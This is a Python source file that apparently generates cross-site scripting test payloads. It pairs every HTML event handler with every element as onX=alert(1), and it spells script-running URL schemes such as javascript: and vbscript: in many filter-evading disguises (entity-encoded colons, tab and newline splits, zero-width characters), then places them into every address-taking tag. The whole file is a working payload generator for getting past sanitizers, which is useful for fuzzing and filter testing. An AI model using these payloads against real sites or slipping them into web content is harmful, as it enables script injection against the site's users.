"""Attacks made by rule: every event handler on every element, and schemes in every disguise."""

from itertools import product

# Those of the HTML standard, and some of browsers' own.
EVENTS = """
abort afterprint animationend animationiteration animationstart auxclick beforeinput
beforematch beforeprint beforetoggle beforeunload blur cancel canplay canplaythrough change
click close command contentvisibilityautostatechange contextlost contextmenu contextrestored
copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop
durationchange emptied ended error focus focusin focusout formdata gotpointercapture
hashchange input invalid keydown keypress keyup languagechange load loadeddata
loadedmetadata loadstart lostpointercapture message messageerror mousedown mouseenter
mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide
pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter
pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress
ratechange readystatechange rejectionhandled reset resize scroll scrollend
securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled
storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart
transitioncancel transitionend transitionrun transitionstart unhandledrejection unload
volumechange waiting webkitanimationend wheel begin end repeat
"""
ELEMENTS = """
a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big
blink blockquote body br button canvas caption center cite code col colgroup command content
data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption
figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe
image img input ins isindex kbd keygen label legend li link listing main map mark marquee math
menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup
option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script
search section select selectedcontent shadow slot small source spacer span strike strong style
sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul
var video wbr x xmp x-any animate set image use foreignObject annotation-xml mglyph
"""
SCHEMES = ["javascript", "JaVaScRiPt", "vbscript", "livescript", "data", "blob", "file", "mhtml"]
DISGUISES = [
    "{}:", "{}&colon;", "{}&#58;", "{}&#x3a;", "{}\t:", "{}\n:", " {}:", "\x01{}:", "\x1f{}:",
    "&#1;{}:", "&Tab;{}:", "&NewLine;{}:", "//{}:", "\\{}:", "{}\u200b:", "\ufeff{}:", "{}\uff1a",
    "view-source:{}:", "feed:{}:", "jar:{}:", "http:{}:", "https:///{}:", "x:{}:",
    "{}%3a", "\xa0{}:",
]  # fmt: skip
PLACES = [
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<a xlink:href="{}">x</a>',
    '<area href="{}">', '<form action="{}"><input type=submit>', '<button formaction="{}">x',
    '<img src="{}">', '<iframe src="{}">', '<object data="{}">', '<embed src="{}">',
    '<base href="{}">', '<link rel=stylesheet href="{}">', '<q cite="{}">x</q>',
    '<blockquote cite="{}">x</blockquote>', '<td background="{}">', '<video poster="{}">',
    '<svg><a href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<a ping="{}">x</a>',
    '<meta http-equiv=refresh content="0;url={}">', '<img srcset="{} 1x">',
    '<del cite="{}">x</del>',
]  # fmt: skip


def handlers() -> list[str]:
    """Return every event handler on every element."""
    return [
        f"<{element} on{event}=alert(1)>x</{element}>"
        for element, event in product(ELEMENTS.split(), EVENTS.split())
    ]


def disguised() -> list[str]:
    """Return every scheme that runs or opens something, in every disguise."""
    return [
        disguise.format(spelled) + "alert(1)"
        for scheme, disguise in product(SCHEMES, DISGUISES)
        for spelled in (
            scheme,
            f"{scheme[:4]}\t{scheme[4:]}",
            f"{scheme[:2]}\n{scheme[2:]}",
            f"{scheme[:3]}&#10;{scheme[3:]}",
            f"&#{ord(scheme[0])};{scheme[1:]}",
            f"&#x{ord(scheme[0]):07x}{scheme[1:]}",
        )
    ]


def links() -> list[str]:
    """Return every such scheme in every place that takes an address."""
    return [place.format(address) for place, address in product(PLACES, disguised())]
